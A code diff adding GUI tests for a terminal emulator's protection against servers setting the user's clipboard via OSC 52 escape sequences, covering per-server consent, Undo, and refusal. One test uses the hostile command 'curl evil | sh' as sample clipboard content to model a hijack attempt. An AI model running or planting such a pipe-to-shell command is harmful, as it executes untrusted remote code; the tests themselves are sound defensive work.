@@ -117,3 +117,61 @@ def test_title_stack_restores_the_tab_title(canvas, qtbot) -> None:
     canvas.feed(b"\x1b[22;0t\x1b]2;vim notes.txt\x07")
     canvas.feed(b"\x1b[23;0t")
     assert titles == ["user@gpu: ~", "vim notes.txt", "user@gpu: ~"]
+
+
+# -- never silent: asked once per server, every change announced with Undo ------------------------
+
+
+@pytest.fixture
+def view(qtbot):
+    from gpudesk.core.sessions import Session
+    from gpudesk.ui.controller import ConnectionController
+    from gpudesk.ui.terminal.view import TerminalView
+
+    controller = ConnectionController(Session(name="box", host="203.0.113.5", port=2222, username="u"))
+    v = TerminalView(controller, "t1")
+    qtbot.addWidget(v)
+    v.resize(640, 400)
+    v.show()
+    yield v
+    controller.close()
+
+
+def test_a_server_is_asked_about_once_and_nothing_is_set_before(view, qtbot) -> None:
+    from gpudesk.core.terminal import clipboard_trust
+
+    clipboard = QtWidgets.QApplication.clipboard()
+    clipboard.setText("mine")
+    view.canvas.feed(_osc52("from the server"))
+    assert clipboard.text() == "mine"  # not before the answer
+    assert view.clip_notice.isVisible() and view.clip_notice.allow_button.isVisible()
+    assert "203.0.113.5:2222" in view.clip_notice.label.text()
+    view.clip_notice.allow_button.click()
+    assert clipboard.text() == "from the server"
+    assert clipboard_trust.decision("203.0.113.5:2222") == clipboard_trust.ALLOW
+    view.canvas.feed(_osc52("second"))  # allowed now: set at once, and said so
+    assert clipboard.text() == "second"
+    assert view.clip_notice.undo_button.isVisible() and not view.clip_notice.allow_button.isVisible()
+
+
+def test_every_change_can_be_undone(view) -> None:
+    from gpudesk.core.terminal import clipboard_trust
+
+    clipboard_trust.remember("203.0.113.5:2222", True)
+    clipboard = QtWidgets.QApplication.clipboard()
+    clipboard.setText("my password manager's copy")
+    view.canvas.feed(_osc52("curl evil | sh"))
+    assert clipboard.text() == "curl evil | sh"
+    assert view.clip_notice.isVisible() and "14 character" in view.clip_notice.label.text()
+    view.clip_notice.undo_button.click()
+    assert clipboard.text() == "my password manager's copy"
+    assert not view.clip_notice.isVisible()
+
+
+def test_a_server_refused_once_never_sets_it(view) -> None:
+    clipboard = QtWidgets.QApplication.clipboard()
+    clipboard.setText("mine")
+    view.canvas.feed(_osc52("one"))
+    view.clip_notice.deny_button.click()
+    view.canvas.feed(_osc52("two"))
+    assert clipboard.text() == "mine" and not view.clip_notice.isVisible()
